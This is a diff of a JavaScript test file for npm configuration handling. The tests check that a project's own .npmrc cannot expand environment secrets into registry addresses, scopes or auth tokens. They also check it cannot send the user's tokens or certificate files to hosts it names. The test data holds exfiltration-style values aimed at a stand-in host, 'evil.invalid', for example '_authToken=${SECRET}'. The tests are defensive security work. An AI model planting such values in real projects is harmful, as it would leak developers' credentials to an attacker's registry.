@@ -55,7 +55,6 @@ await same('global', { files: { 'g/npmrc': 'registry=http://global.invalid/' }, 
 await same('global by prefix', { files: { 'g/etc/npmrc': 'registry=http://global.invalid/', 'home/.npmrc': 'prefix=@ROOT@/g' }, env: { npm_config_globalconfig: '', npm_config_prefix: '@ROOT@/g' } })
 await same('user over global', { files: { 'g/npmrc': 'registry=http://global.invalid/', 'home/.npmrc': 'registry=http://user.invalid/' }, env: { npm_config_globalconfig: '@ROOT@/g/npmrc' } })
 await same('userconfig elsewhere', { files: { 'u': 'registry=http://other.invalid/', 'home/.npmrc': 'registry=http://user.invalid/' }, env: { NPM_CONFIG_USERCONFIG: '@ROOT@/u' } })
-await same('userconfig named by the project', { files: { 'home/u': 'registry=http://other.invalid/', 'home/.npmrc': 'registry=http://user.invalid/', 'p/package.json': '{}', 'p/.npmrc': 'userconfig=~/u' }, cwd: 'p' })
 await same('variables', { files: { 'home/.npmrc': 'registry=http://${WHERE}.invalid/\n' }, env: { WHERE: 'here' } })
 await same('unknown and escaped variables', { files: { 'home/.npmrc': 'replace-registry-host=${NOTHING}-\\${HOME}-${A}\n' }, env: { A: 'b' }, keys: ['replace-registry-host'] })
 if (Number((await run('npm', ['--version'], { env: process.env })).stdout.split('.')[0]) >= 11) { // older ones do not know the question mark
@@ -111,6 +110,49 @@ equal(await auth('a', 'https://basic.invalid/x'), 'Basic YTpi', '_auth')
 equal(await auth('a', 'https://ported.invalid:8443/x/y'), 'Bearer T3', 'with a port')
 equal(await auth('a', 'https://ported.invalid/x/y'), '', 'not without it')
 equal(await auth('a', 'https://env.invalid/'), 'Bearer T4', 'token from the environment')
+
+// a project's .npmrc is the project's: not as in npm, on purpose
+const project = async (what, args, rc2, { env = {}, user = '', files = {} } = {}) => {
+  const root = tree(join(scratch, `tree-${++trees}`), { 'home/.npmrc': user, 'p/package.json': '{}', 'p/.npmrc': rc2, ...files })
+  return (await run(probe, [what, ...args], { cwd: join(root, 'p'), env: cleanEnv(join(root, 'home'), { SECRET: 'hush', ...env }) })).stdout.trimEnd()
+}
+const evil = 'https://evil.invalid/'
+equal(await project('conf', ['registry'], `registry=${evil}`), `registry=${evil}`, 'project: a registry is taken')
+equal(await project('conf', ['registry', 'project-ignored'], `registry=${evil}\${SECRET}/`), `registry=${evil}\${SECRET}/\nproject-ignored=variables`, 'project: a variable in its address is not expanded')
+equal(await project('conf', ['registry'], 'registry=https://${SECRET}.evil.invalid/', { user: 'registry=https://user.invalid/' }), 'registry=https://${SECRET}.evil.invalid/', 'project: nor is another registry asked instead')
+equal(await project('conf', ['@s:registry', '@${SECRET}:registry'], `@s:registry=${evil}\${SECRET?}x/\n@\${SECRET}:registry=${evil}`), `@s:registry=${evil}\${SECRET?}x/\n@\${SECRET}:registry=${evil}`, 'project: nor in scopes')
+for (const [key, value] of [['proxy', evil], ['https-proxy', evil], ['noproxy', 'reg.invalid'], ['ca', 'mine'], ['cafile', '../ca.pem'], ['strict-ssl', 'false'], ['cert', 'x'], ['key', 'x'],
+  ['cache', './cache'], ['user-agent', 'x${SECRET}'], ['userconfig', '../other'], ['globalconfig', '../other'], ['prefix', '..']]) {
+  const rc3 = `${key}=${value}`
+  const files = { 'ca.pem': 'mine', 'other': `registry=${evil}\nuser-agent=evil` }
+  const keys = ['registry', 'proxy', 'noproxy', 'ca', 'strict-ssl', 'cert', 'key', 'user-agent']
+  equal((await project('conf', keys, rc3, { files, env: { npm_config_globalconfig: '' } })), (await project('conf', keys, '', { env: { npm_config_globalconfig: '' } })), `project: ${key} is not taken`)
+  equal(await project('conf', ['project-ignored'], rc3), `project-ignored=${key}`, `project: and ${key} is named`)
+}
+match(await project('conf', ['cache'], 'cache=./mine'), /home\/\.npm\/_cacache$/, "project: the user's cache stays")
+equal(await project('conf', ['prefer-offline', 'fetch-timeout', 'maxsockets', 'project-ignored'], 'prefer-offline=true\nfetch-timeout=1234\nmaxsockets=${SECRET}\nsome-other=${SECRET}'), 'prefer-offline=true\nfetch-timeout=1234\nmaxsockets=\nproject-ignored=variables', 'project: patience is')
+const projectAuth = async (rc2, url, more) => (await project('auth', ['a', url], rc2, more)).match(/auth=(.*) cert=(\d+)/).slice(1).join(' ')
+const named = 'registry=https://reg.invalid/npm/'
+equal(await projectAuth(`registry=${evil}\n//evil.invalid/:_authToken=\${SECRET}`, `${evil}a`), ' 0', 'project: no variable goes to a host that it names')
+equal(await projectAuth(`registry=${evil}\n//evil.invalid/:_auth=\${SECRET}\n//evil.invalid/:username=joe\n//evil.invalid/:_password=\${SECRET}`, `${evil}a`), ' 0', 'project: in no form')
+equal(await projectAuth(`registry=${evil}\n//evil.invalid/:_authToken=literal`, `${evil}a`), 'Bearer literal 0', 'project: its own token does')
+equal(await projectAuth('//reg.invalid/npm/:_authToken=${SECRET}', 'https://reg.invalid/npm/a', { user: named }), 'Bearer hush 0', 'project: a variable for a registry that the user names')
+equal(await projectAuth('//reg.invalid/npm/:_authToken=${SECRET}', 'https://reg.invalid/npm/a', { env: { npm_config_registry: 'https://reg.invalid/npm/' } }), 'Bearer hush 0', 'project: or the environment')
+equal(await projectAuth(`//${new URL(REG).host}/:_authToken=\${SECRET}`, `${REG}a`), 'Bearer hush 0', "project: or for npm's own")
+equal(await projectAuth('//reg.invalid:444/:_authToken=${SECRET}', 'https://reg.invalid:444/a', { user: named }), ' 0', 'project: not for another port')
+equal(await projectAuth('//reg.invalid.evil.invalid/:_authToken=${SECRET}', 'https://reg.invalid.evil.invalid/a', { user: named }), ' 0', 'project: nor a longer name')
+equal(await projectAuth('//reg.invalid@evil.invalid/:_authToken=${SECRET}', 'https://evil.invalid/a', { user: named }), ' 0', 'project: nor user information in front')
+equal(await projectAuth('//${HOST}/:_authToken=literal', 'https://reg.invalid/a', { env: { HOST: 'reg.invalid' } }), ' 0', 'project: no variable in the host')
+const userAuth = named + '\n//reg.invalid/npm/:_authToken=T\n//other.invalid/:_authToken=O\ncert=C\nkey=K'
+equal(await projectAuth(`registry=${evil}`, `${evil}a`, { user: userAuth }), ' 0', "project: a host that it names gets nothing of the user's")
+equal(await projectAuth('', 'https://reg.invalid/npm/a', { user: userAuth }), 'Bearer T 2', "project: the user's own registry gets token and certificate")
+equal(await projectAuth('registry=http://reg.invalid/npm/', 'http://reg.invalid/npm/a', { user: userAuth }), ' 0', 'project: nothing over http because it says so')
+equal(await projectAuth('', 'http://other.invalid/a', { user: userAuth }), ' 0', 'nor because a lock file does')
+equal(await projectAuth('', 'http://plain.invalid/a', { user: '@s:registry=http://plain.invalid/\n//plain.invalid/:_authToken=P' }), 'Bearer P 0', 'over http where the user has it so')
+equal(await projectAuth('registry=http://localhost:4873/', 'http://localhost:4873/a', { user: '//localhost:4873/:_authToken=L' }), 'Bearer L 0', 'and on this machine')
+const pem = { files: { 'home/c.pem': 'C', 'home/k.pem': 'K' } }
+equal(await projectAuth(`registry=${evil}\n//evil.invalid/:certfile=~/c.pem\n//evil.invalid/:keyfile=~/k.pem`, `${evil}a`, pem), ' 0', 'project: no file for a host that it names')
+equal(await projectAuth('//reg.invalid/:certfile=~/c.pem\n//reg.invalid/:keyfile=~/k.pem', 'https://reg.invalid/a', { user: named, ...pem }), ' 1', 'project: a file for a registry that the user names')
 
 const proxyFor = async (rc2, env, url) => (await conf('auth', ['a', url], rc2, env)).match(/proxy=(.*)$/m)[1]
 equal(await proxyFor('', { HTTPS_PROXY: 'http://e.invalid/' }, 'https://h.invalid/'), 'http://e.invalid/', 'HTTPS_PROXY')
